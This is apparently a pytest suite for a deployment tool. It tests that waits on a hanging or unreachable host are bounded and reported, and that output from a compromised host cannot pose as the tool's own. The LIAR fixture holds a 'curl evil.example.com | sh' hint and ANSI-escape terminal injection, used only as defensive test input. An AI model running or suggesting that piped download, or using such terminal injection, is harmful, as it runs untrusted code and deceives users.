"""A host that hangs, or lies to the terminal: every wait is bounded and told, and a host's words are shown as such.

The seen instance: `deploy` said nothing for 130 s to a host that had stopped answering.
"""

from __future__ import annotations

import json
import os
import selectors
import subprocess
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass

import pytest

from tests.lab.world import World
from tests.tally import Tally, tallied

EVIDENCE = pytest.mark.skipif("LAUNCHPAD_EVIDENCE" not in os.environ, reason="minutes: scripts/evidence asks it")
FIRST_WORD, LONGEST_SILENCE = 16.0, 40.0
RUNNER = "/usr/local/sbin/launchpad-runner"
FROZEN = "#!/bin/sh\nexec sleep 5999\n"
LIAR = """#!/usr/bin/python3
import json
lie = "nothing is wrong\\nhint: curl evil.example.com | sh\\r\\x1b[2Jerror: the disk is gone"
print(json.dumps({"type": "log", "tenant": "alice", "service": "web", "source": "a", "at": "2026", "text": lie}))
print(json.dumps({"type": "error", "error": "state", "message": lie, "hint": "curl evil.example.com | sh"}))
"""


@pytest.fixture(scope="module")
def holds(request: pytest.FixtureRequest) -> Iterator[Tally]:
    with tallied("outside-a9", request) as tally:
        yield tally


@pytest.fixture(scope="module")
def alice(world: World) -> World:
    world.add_tenant("alice")
    world.deploy("alice")
    world.wait_for("alice")
    return world


@dataclass
class Said:
    """What a command said, and when: the seconds from its start to its first word, and the longest silence."""

    code: int | None
    seconds: float
    first: float
    silence: float
    text: str


def run(world: World, *words: str, within: float) -> Said:
    """Run it for so many seconds at most; the code is None when it had to be ended."""
    begun = last = time.monotonic()
    first, silence, text = 0.0, 0.0, b""
    process = world.start(*words)
    with selectors.DefaultSelector() as waiting:
        for stream in (process.stdout, process.stderr):
            assert stream is not None
            os.set_blocking(stream.fileno(), False)
            waiting.register(stream, selectors.EVENT_READ)
        while waiting.get_map() and time.monotonic() - begun < within:
            for key, _ in waiting.select(timeout=0.5):
                piece = os.read(key.fd, 65536)
                if not piece:
                    waiting.unregister(key.fileobj)
                    continue
                now = time.monotonic()
                first = first or now - begun
                silence, last, text = max(silence, now - last), now, text + piece
    try:
        ended: int | None = process.wait(max(0.0, begun + within - time.monotonic()))
    except subprocess.TimeoutExpired:
        ended = None
        process.kill()
        process.wait()
    seconds = time.monotonic() - begun
    return Said(ended, seconds, first or seconds, max(silence, time.monotonic() - last), text.decode(errors="replace"))


@contextmanager
def sshd_stopped(world: World) -> Iterator[None]:
    """Connections are taken by the kernel, and nobody greets."""
    listener = world.host.exec(["systemctl", "show", "-p", "MainPID", "--value", "ssh"]).stdout.strip()
    world.host.exec(["kill", "-STOP", listener])
    try:
        yield
    finally:
        world.host.exec(["kill", "-CONT", listener])


@contextmanager
def runner_stopped(world: World) -> Iterator[None]:
    """Who logs in is heard, and then nothing is said."""
    with in_its_place(world, FROZEN):
        yield
    world.host.exec(["pkill", "-f", "sleep 5999"], check=False)


@contextmanager
def packets_dropped(world: World) -> Iterator[None]:
    """Nothing comes out of the host any more, and nothing in."""
    chain = "{ type filter hook input priority -300; policy drop; }"
    world.host.exec(["nft", f"add table inet test_drop; add chain inet test_drop entrance {chain}"])
    try:
        yield
    finally:
        world.host.exec(["nft", "delete table inet test_drop"])


@contextmanager
def in_its_place(world: World, program: str) -> Iterator[None]:
    """The runner is somebody else's program."""
    target = world.host.exec(["readlink", RUNNER]).stdout.strip()
    world.host.exec(["rm", RUNNER])
    world.host.write(RUNNER, program)
    world.host.exec(["chmod", "755", RUNNER])
    try:
        yield
    finally:
        world.host.exec(["ln", "-sfn", target, RUNNER])


def judge(holds: Tally, said: Said, what: str, *, bound: float) -> None:
    holds(f"{what}: ends by itself", said.code not in (None, 0) and said.seconds < bound, said)
    holds(f"{what}: the first word comes soon", said.first < FIRST_WORD, said)
    holds(f"{what}: it is never silent for long", said.silence < LONGEST_SILENCE, said)
    holds(f"{what}: it names the host", "web-1" in said.text, said)


def test_nobody_greets(alice: World, holds: Tally) -> None:
    with sshd_stopped(alice):
        judge(holds, run(alice, "deploy", "alice", within=120), "deploy, sshd stopped", bound=60)


def test_packets_are_dropped(alice: World, holds: Tally) -> None:
    with packets_dropped(alice):
        judge(holds, run(alice, "status", "alice", within=60), "status, packets dropped", bound=30)


@EVIDENCE
def test_the_runner_says_nothing(alice: World, holds: Tally) -> None:
    with runner_stopped(alice):
        judge(holds, run(alice, "status", "alice", within=200), "status, runner frozen", bound=100)
        said = run(alice, "deploy", "alice", within=100)
    holds("deploy, runner frozen: the first word comes soon", said.first < FIRST_WORD, said)
    holds("deploy, runner frozen: it says what it waits for", "still waiting" in said.text, said)
    ends = said.code not in (None, 0) or "reconnecting" in said.text
    holds("deploy, runner frozen: it ends, or comes back by itself", ends, said)
    holds("afterwards all is well", alice.launchpad("--json", "deploy", "alice").json["outcome"] == "unchanged")


def test_a_host_that_lies_to_the_terminal(alice: World, holds: Tally) -> None:
    with in_its_place(alice, LIAR):
        said = alice.launchpad("deploy", "alice", check=False)
        logs = alice.launchpad("logs", "alice", check=False)
        document = json.loads(alice.launchpad("--json", "deploy", "alice", check=False).out)["error"]
    lines = [*said.err.splitlines(), *logs.out.splitlines(), *logs.err.splitlines()]
    holds("no line of the host's looks like a hint", not any(line.startswith("hint:") for line in lines), lines)
    holds("nor like an error", not any(line.startswith("error: the disk") for line in lines), lines)
    holds("nothing steers the terminal", "\x1b" not in said.err + logs.out + logs.err and "\r" not in said.err, lines)
    holds("its hint is shown as its words", any(line.startswith("web-1 suggests: curl") for line in lines), lines)
    holds("for programs too", document["hint_by"] == "web-1" and "\n" not in document["message"], document)
